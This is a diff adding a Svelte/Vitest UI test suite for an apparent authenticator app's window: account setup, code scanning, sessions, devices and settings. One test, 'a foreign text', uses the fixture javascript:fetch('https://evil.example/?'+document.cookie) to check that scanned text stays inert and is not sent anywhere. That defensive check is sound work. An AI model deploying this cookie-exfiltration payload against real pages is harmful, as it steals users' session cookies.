@@ -1,0 +1,232 @@
+import { fireEvent, screen } from "@testing-library/svelte";
+import userEvent from "@testing-library/user-event";
+import { describe, expect, it } from "vitest";
+
+import { fixture, open } from "./window";
+
+const user = userEvent.setup();
+
+describe("adding an account", () => {
+  it("starts at the first start", async () => {
+    const window = await open("first-start");
+    await user.click(screen.getByTestId("add-account"));
+    expect(window.acts).toEqual([{ command: "go", to: "add_account" }]);
+  });
+
+  it("sends the link, without the blanks around it", async () => {
+    const window = await open("add-account");
+    await user.type(screen.getByTestId("link-input"), "  https://login.example.com/E/ABC {Enter}");
+    expect(window.acts).toEqual([{ command: "add_by_link", link: "https://login.example.com/E/ABC" }]);
+  });
+
+  it("sends address, name and password", async () => {
+    const window = await open("add-account");
+    await user.click(screen.getByTestId("by-password"));
+    await user.type(screen.getByTestId("address-input"), "login.example.com");
+    await user.type(screen.getByTestId("username-input"), "ada");
+    await user.type(screen.getByTestId("password-input"), " pass word ");
+    await user.click(screen.getByTestId("add-continue"));
+    expect(window.acts).toEqual([
+      { command: "add_by_password", address: "login.example.com", username: "ada", password: " pass word " },
+    ]);
+  });
+
+  it("contacts nobody without a yes", async () => {
+    const window = await open("confirm-contact");
+    await user.keyboard("{Enter} ");
+    expect(window.acts).toEqual([]);
+    await user.click(screen.getByTestId("refuse-contact"));
+    await user.click(screen.getByTestId("confirm-contact"));
+    expect(window.acts).toEqual([
+      { command: "contact_server", yes: false },
+      { command: "contact_server", yes: true },
+    ]);
+  });
+
+  it("keeps the account after a yes", async () => {
+    const window = await open("confirm-account");
+    await user.click(screen.getByTestId("confirm-account"));
+    expect(window.acts).toEqual([{ command: "keep_account", yes: true }]);
+  });
+});
+
+describe("scanning", () => {
+  it("opens the camera when the view appears, and keeps it off when it was switched off", async () => {
+    const window = await open("scan-off");
+    expect(window.acts).toEqual([{ command: "start_camera" }]);
+    window.push(fixture("scan"));
+    await user.click(await screen.findByTestId("stop-camera"));
+    window.push(fixture("scan-off"));
+    await screen.findByTestId("start-camera");
+    expect(window.acts).toEqual([{ command: "start_camera" }, { command: "stop_camera" }]);
+  });
+
+  it("hands over the bytes of a chosen picture", async () => {
+    const window = await open("scan");
+    await user.upload(screen.getByTestId("scan-image"), new File(["PNG"], "code.png", { type: "image/png" }));
+    await expect.poll(() => window.pictures.length).toBe(1);
+    expect(new TextDecoder().decode(window.pictures[0])).toBe("PNG");
+  });
+
+  it("hands over a pasted picture, and a pasted link as text", async () => {
+    const window = await open("scan");
+    await fireEvent.paste(document.body, { clipboardData: { files: [new File(["GIF"], "a.gif")], getData: () => "" } });
+    await expect.poll(() => window.pictures.length).toBe(1);
+    await fireEvent.paste(document.body, { clipboardData: { files: [], getData: () => " https://a.example/Q/X " } });
+    expect(window.acts).toEqual([{ command: "scan_text", text: "https://a.example/Q/X" }]);
+  });
+
+  it("leaves a paste into a field to the field", async () => {
+    const window = await open("add-account");
+    await fireEvent.paste(screen.getByTestId("link-input"), { clipboardData: { files: [], getData: () => "https://a.example/E/X" } });
+    expect(window.acts).toEqual([]);
+  });
+
+  it("says that a dropped file could not be opened", async () => {
+    const window = await open("scan");
+    const file = new File(["x"], "gone.png");
+    file.arrayBuffer = () => Promise.reject(new Error("NotFoundError"));
+    await fireEvent.drop(document.body, { dataTransfer: { files: [file], getData: () => "" } });
+    await expect.poll(() => window.acts).toEqual([{ command: "picture_failed", details: "open picture: Error: NotFoundError" }]);
+  });
+
+  it("asks for the screen and leads to the code field", async () => {
+    const window = await open("scan");
+    await user.click(screen.getByTestId("scan-screen"));
+    await user.click(screen.getByTestId("type-code"));
+    expect(window.acts).toEqual([{ command: "scan_screen" }, { command: "go", to: "type_code" }]);
+  });
+
+  it("shapes a typed code and sends it for the chosen account", async () => {
+    const window = await open("type-code");
+    await user.type(screen.getByTestId("code-input"), "bcdf ghjk");
+    expect(screen.getByTestId("code-input")).toHaveValue("BCDF-GHJK");
+    await user.selectOptions(screen.getByTestId("account-picker"), "a2");
+    await user.click(screen.getByTestId("submit-code"));
+    expect(window.acts).toEqual([{ command: "submit_user_code", account: "a2", code: "BCDF-GHJK" }]);
+  });
+});
+
+describe("a foreign text", () => {
+  it("is text: no link, nothing sent, copied only on request", async () => {
+    const window = await open("foreign-text");
+    expect(document.querySelector("main a, main iframe, main img")).toBeNull();
+    expect(screen.getByTestId("foreign-text")).toHaveTextContent("javascript:fetch(");
+    expect(window.copied).toEqual([]);
+    await user.click(screen.getByTestId("copy-text"));
+    expect(window.copied).toEqual(["javascript:fetch('https://evil.example/?'+document.cookie)"]);
+    expect(window.acts).toEqual([]);
+  });
+
+  it("warns of a lookalike", async () => {
+    await open("foreign-lookalike");
+    expect(screen.getByRole("alert")).toHaveTextContent("https://login.examp1e.com");
+  });
+});
+
+describe("sessions and devices", () => {
+  it("ends one at once and all after one question", async () => {
+    const window = await open("sessions");
+    await user.click(screen.getAllByTestId("end-session")[0]!);
+    await user.click(screen.getByTestId("end-all"));
+    expect(window.acts).toHaveLength(1);
+    await user.click(screen.getByTestId("sheet-yes"));
+    expect(window.acts).toEqual([
+      { command: "end_session", account: "a1", session: "s1" },
+      { command: "end_all_sessions", account: "a1" },
+    ]);
+    expect(screen.queryByTestId("sheet")).toBeNull();
+  });
+
+  it("ends nothing when the question is cancelled", async () => {
+    const window = await open("sessions");
+    await user.click(screen.getByTestId("end-all"));
+    await user.click(screen.getByTestId("sheet-cancel"));
+    expect(window.acts).toEqual([]);
+    expect(screen.queryByTestId("sheet")).toBeNull();
+  });
+
+  it("renames and removes a device, and never the own one here", async () => {
+    const window = await open("devices");
+    expect(screen.getAllByTestId("remove-device")).toHaveLength(2);
+    await user.click(screen.getAllByTestId("rename-device")[1]!);
+    await user.clear(screen.getByTestId("device-name"));
+    await user.type(screen.getByTestId("device-name"), " Reading room {Enter}");
+    await user.click(screen.getAllByTestId("remove-device")[0]!);
+    await user.click(screen.getByTestId("sheet-yes"));
+    expect(window.acts).toEqual([
+      { command: "rename_device", account: "a1", device: "d2", name: "Reading room" },
+      { command: "remove_device", account: "a1", device: "d2" },
+    ]);
+  });
+
+  it("shows what is known beside the trouble", async () => {
+    await open("sessions-offline");
+    expect(screen.getByTestId("error")).toHaveAttribute("data-code", "server_unreachable");
+    expect(screen.getAllByTestId("session-row")).toHaveLength(3);
+  });
+});
+
+describe("accounts and settings", () => {
+  it("signs out after one question", async () => {
+    const window = await open("accounts");
+    await user.click(screen.getAllByTestId("sign-out")[1]!);
+    expect(window.acts).toEqual([]);
+    await user.click(screen.getByTestId("sheet-yes"));
+    expect(window.acts).toEqual([{ command: "sign_out", account: "a2" }]);
+  });
+
+  it("changes one setting and keeps the others", async () => {
+    const window = await open("settings");
+    const before = fixture("settings").settings;
+    await user.click(screen.getByTestId("start-at-login"));
+    await user.click(screen.getByTestId("theme-dark"));
+    await user.selectOptions(screen.getByTestId("language"), "de");
+    expect(window.acts).toEqual([
+      { command: "change_settings", settings: { ...before, start_at_login: true } },
+      { command: "change_settings", settings: { ...before, theme: "dark" } },
+      { command: "change_settings", settings: { ...before, language: "de" } },
+    ]);
+  });
+
+  it("erases after one question", async () => {
+    const window = await open("settings");
+    await user.click(screen.getByTestId("erase"));
+    await user.click(screen.getByTestId("sheet-yes"));
+    expect(window.acts).toEqual([{ command: "erase_everything" }]);
+  });
+});
+
+describe("the window", () => {
+  it("ignores a state older than the one it shows", async () => {
+    const window = await open("sessions");
+    window.app.accept({ ...fixture("scan"), revision: 0 });
+    expect(window.app.view?.screen.view).toBe("sessions");
+  });
+
+  it("copies details of a failure and says so", async () => {
+    const window = await open("scan-expired");
+    await user.click(screen.getByTestId("copy-details"));
+    expect(window.copied).toEqual(["fixture: code_expired"]);
+    expect(screen.getByTestId("copy-details")).toHaveTextContent("Details copied");
+  });
+
+  it("dismisses a notice", async () => {
+    const window = await open("notice-failed");
+    await user.click(screen.getByTestId("dismiss-notice"));
+    expect(window.acts).toEqual([{ command: "dismiss_notice", id: 1 }]);
+  });
+
+  it("goes back with Escape where there is a way back", async () => {
+    const window = await open("settings");
+    await user.keyboard("{Escape}");
+    expect(window.acts).toEqual([{ command: "back" }]);
+  });
+
+  it("says so when its program is gone", async () => {
+    const window = await open("scan");
+    window.app.bridge.send = () => Promise.reject(new Error("gone"));
+    await user.click(screen.getByTestId("scan-screen"));
+    expect(await screen.findByText("The window lost its program")).toBeVisible();
+  });
+});
